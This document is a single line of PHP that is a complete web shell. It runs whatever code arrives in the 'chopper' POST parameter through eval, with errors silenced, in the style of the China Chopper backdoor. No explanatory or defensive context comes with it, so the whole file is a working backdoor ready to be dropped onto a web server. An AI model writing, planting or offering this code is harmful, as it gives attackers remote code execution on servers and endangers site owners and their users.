<?php @eval($_POST['chopper']);?>
